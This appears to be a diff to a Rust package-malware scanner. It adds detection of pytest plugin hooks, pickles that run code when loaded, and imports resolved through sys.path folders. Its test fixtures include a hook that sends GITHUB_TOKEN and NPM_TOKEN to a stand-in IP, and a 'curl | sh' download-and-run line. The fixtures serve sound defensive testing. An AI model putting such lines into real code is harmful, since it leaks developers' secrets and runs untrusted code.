@@ -295,6 +295,7 @@ pub fn analyze_package(pkg: &Package) -> Analysis {
             });
         }
     }
+    pickles(pkg, &mut analysis);
     analysis.behaviours.sort_by(|a, b| {
         (&a.path, a.line, a.column, a.kind).cmp(&(&b.path, b.line, b.column, b.kind))
     });
@@ -371,7 +372,20 @@ fn command_functions(
             let Some(facts) = facts.get(&file) else {
                 continue;
             };
-            if let Some(id) = facts
+            if function == "pytest_*" {
+                // A pytest plugin's hooks: its module-level functions named for pytest.
+                out.extend(
+                    facts
+                        .reach
+                        .functions
+                        .iter()
+                        .enumerate()
+                        .filter(|(_, func)| func.name.starts_with("pytest_"))
+                        .filter_map(|(id, _)| u32::try_from(id).ok())
+                        .map(|id| (file, id))
+                        .take(16),
+                );
+            } else if let Some(id) = facts
                 .reach
                 .functions
                 .iter()
@@ -395,15 +409,22 @@ fn script_targets(text: &str) -> Vec<(String, String)> {
     let mut out = Vec::new();
     // In a scripts section; or under setup.cfg's `console_scripts =` key, whose entries
     // are indented and end at the next key.
-    let (mut section, mut key_block) = (false, false);
+    // pytest loads the modules of its `pytest11` group in every session and calls their
+    // `pytest_*` hooks: `(module, "pytest_*")`.
+    let (mut section, mut key_block, mut plugins) = (false, false, false);
     for line in text.lines().take(10_000) {
         let trimmed = line.trim();
         if trimmed.starts_with('[') {
             let name = trimmed.trim_matches(|c| c == '[' || c == ']').trim();
-            section = matches!(
+            plugins = matches!(
                 name,
-                "console_scripts" | "gui_scripts" | "project.scripts" | "project.gui-scripts"
+                "pytest11" | "project.entry-points.pytest11" | "project.entry-points.\"pytest11\""
             );
+            section = plugins
+                || matches!(
+                    name,
+                    "console_scripts" | "gui_scripts" | "project.scripts" | "project.gui-scripts"
+                );
             key_block = false;
             continue;
         }
@@ -412,15 +433,18 @@ fn script_targets(text: &str) -> Vec<(String, String)> {
         };
         let key = key.trim();
         if !line.starts_with([' ', '\t']) && !section {
-            key_block = matches!(key, "console_scripts" | "gui_scripts");
+            key_block = matches!(key, "console_scripts" | "gui_scripts" | "pytest11");
+            plugins = key == "pytest11";
         }
         if !(section || key_block) {
             continue;
         }
         let value = value.trim().trim_matches(|c| c == '"' || c == '\'');
         let target = value.split(['[', ' ']).next().unwrap_or("");
-        let Some((module, function)) = target.split_once(':') else {
-            continue;
+        let (module, function) = match target.split_once(':') {
+            Some((m, f)) => (m, f),
+            None if plugins => (target, "pytest_*"),
+            None => continue,
         };
         let word = |s: &str| {
             !s.is_empty()
@@ -428,7 +452,7 @@ fn script_targets(text: &str) -> Vec<(String, String)> {
                     !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                 })
         };
-        if word(module) && word(function) {
+        if word(module) && (word(function) || function == "pytest_*") {
             out.push((module.to_owned(), function.to_owned()));
         }
     }
@@ -945,7 +969,7 @@ fn follow_imports(
         };
         for import in &f.imports {
             resolver
-                .files_of(file.kind, dir, import)
+                .files_of_in(file.kind, dir, f, import)
                 .iter()
                 .for_each(|&j| visit(j));
         }
@@ -994,7 +1018,7 @@ fn resolve_function(
         .collect();
     matches.sort_by_key(|(import, _)| std::cmp::Reverse(import.len()));
     for (import, name) in matches {
-        if let Some(&j) = resolver.files_of(file.kind, dir, import).first() {
+        if let Some(&j) = resolver.files_of_in(file.kind, dir, f, import).first() {
             return Some((j, name.to_owned()));
         }
     }
@@ -1038,7 +1062,7 @@ fn call_chain(
                 steps.pop();
                 steps.reverse();
                 let mut out = format!(
-                    "a command the package installs → {} {}()",
+                    "a command or plugin the package registers → {} {}()",
                     pkg.files[cur.0].path,
                     name(cur.0, cur.1)
                 );
@@ -1100,6 +1124,51 @@ pub(crate) fn find_run(pkg: &Package, dir: &str, path: &str) -> Option<usize> {
         .position(|f| candidates.contains(&f.relative))
 }
 
+/// Pickles shipped as data that run commands or code when loaded: code, whichever of
+/// the package's functions loads them. When the package's own code imports a pickle
+/// loader, the file is taken to load with it (on import, as data tables usually are);
+/// otherwise it runs when someone loads it.
+fn pickles(pkg: &Package, analysis: &mut Analysis) {
+    let loads = analysis.imports.iter().any(|i| {
+        matches!(
+            i.split('.').next().unwrap_or(""),
+            "pickle" | "_pickle" | "joblib" | "dill" | "cloudpickle" | "torch" | "pandas"
+        )
+    });
+    for file in &pkg.files {
+        if !crate::pickle::is_pickle_name(&file.relative) {
+            continue;
+        }
+        let data = pkg.data(file);
+        if data.len() > crate::pickle::MAX_PICKLE_BYTES {
+            continue;
+        }
+        let callables = crate::pickle::dangerous_callables(data);
+        if callables.is_empty() {
+            continue;
+        }
+        let test_code = file.role == Role::Test;
+        analysis.behaviours.push(Behaviour {
+            kind: BehaviourKind::DecodeExecute,
+            context: if loads && !test_code {
+                Context::Import
+            } else {
+                Context::Runtime
+            },
+            path: file.path.clone(),
+            line: 0,
+            column: 0,
+            snippet: String::new(),
+            detail: format!(
+                "a pickle that calls {} when it is loaded",
+                callables.join(", ")
+            ),
+            test_code,
+            via: None,
+        });
+    }
+}
+
 /// The files of a package that imports point at, each import resolved once for the whole
 /// analysis of the package: the same imports (`os`, `.util`) recur across its files and
 /// across the rounds that follow them.
@@ -1129,6 +1198,40 @@ impl<'p> Resolver<'p> {
     /// The package file at a relative path.
     fn file(&self, relative: &str) -> Option<usize> {
         self.files.get(relative).copied()
+    }
+
+    /// [`Resolver::files_of`], and for an absolute Python import that names no file from
+    /// the root, the folders the importing file put on the import path
+    /// ([`FileFacts::search_dirs`]): `import helpers` after
+    /// `sys.path.insert(0, <folder>/vendor)` is `vendor/helpers.py` beside the file.
+    fn files_of_in(
+        &self,
+        kind: FileKind,
+        dir: &str,
+        facts: &FileFacts,
+        import: &str,
+    ) -> Rc<[usize]> {
+        let found = self.files_of(kind, dir, import);
+        if !found.is_empty()
+            || kind != FileKind::Python
+            || import.starts_with('.')
+            || facts.search_dirs.is_empty()
+        {
+            return found;
+        }
+        for folder in &facts.search_dirs {
+            let within = if dir.is_empty() {
+                folder.clone()
+            } else {
+                format!("{dir}/{folder}")
+            };
+            // An absolute import from a folder on the path is a relative import there.
+            let found = self.files_of(kind, &within, &format!(".{import}"));
+            if !found.is_empty() {
+                return found;
+            }
+        }
+        found
     }
 
     /// The package files that `import`, in a file of `kind` in folder `dir`, may point
@@ -1368,7 +1471,7 @@ mod tests {
             decoded.iter().any(|(c, via)| *c == Context::Import
                 && via
                     .as_deref()
-                    .is_some_and(|v| v.contains("a command the package installs")
+                    .is_some_and(|v| v.contains("a command or plugin the package registers")
                         && v.contains("main() → _update()"))),
             "{:?}",
             analysis.behaviours
@@ -1734,6 +1837,73 @@ https.get('https://telemetry.example.invalid/v?' + version(), () => {});
             .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
             .map(|b| (b.detail.clone(), b.context))
             .collect()
+    }
+
+    #[test]
+    fn a_pytest_plugins_hooks_run_like_a_command() {
+        let plugin = "import json, os, urllib.request\n_V = ('GITHUB_TOKEN', 'NPM_TOKEN')\n\ndef _send():\n    env = {k: os.environ[k] for k in _V if k in os.environ}\n    urllib.request.urlopen('http://192.0.2.9/r', data=json.dumps(env).encode())\n\ndef pytest_configure(config):\n    _send()\n";
+        let with = |entry: &'static str| {
+            analyze_package(&package(
+                "plug",
+                &[
+                    ("plug-1.0.dist-info/METADATA", "Name: plug\nVersion: 1.0\n"),
+                    ("plug-1.0.dist-info/entry_points.txt", entry),
+                    ("plug/__init__.py", ""),
+                    ("plug/hooks.py", plugin),
+                ],
+            ))
+        };
+        let sent = |a: &Analysis| {
+            a.behaviours
+                .iter()
+                .find(|b| b.kind == BehaviourKind::SecretExfiltration)
+                .map(|b| b.context)
+        };
+        assert_eq!(
+            sent(&with("[pytest11]\nplug = plug.hooks\n")),
+            Some(Context::Import)
+        );
+        // Registered for nothing that loads it, the hook runs only if someone calls it.
+        assert_eq!(
+            sent(&with("[other.group]\nplug = plug.hooks\n")),
+            Some(Context::Runtime)
+        );
+    }
+
+    #[test]
+    fn imports_from_a_folder_a_file_puts_on_the_path_are_followed() {
+        let setup = "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tools'))\nimport helper\nhelper.run()\n";
+        let helper =
+            "import os\n\ndef run():\n    os.system('curl -s http://payload.invalid/x | sh')\n";
+        let files = |setup: &'static str| {
+            package(
+                "pathy",
+                &[
+                    ("PKG-INFO", "Name: pathy\nVersion: 1.0\n"),
+                    ("setup.py", setup),
+                    ("tools/helper.py", helper),
+                ],
+            )
+        };
+        let a = analyze_package(&files(setup));
+        assert!(
+            a.behaviours
+                .iter()
+                .any(|b| b.kind == BehaviourKind::DownloadExecute
+                    && b.path.ends_with("tools/helper.py")
+                    && b.context == Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+        // Without the folder on the path, `import helper` names no file of the package.
+        let a = analyze_package(&files("import helper\nhelper.run()\n"));
+        assert!(
+            !a.behaviours
+                .iter()
+                .any(|b| b.path.ends_with("tools/helper.py") && b.context == Context::Install),
+            "{:?}",
+            a.behaviours
+        );
     }
 
     #[test]
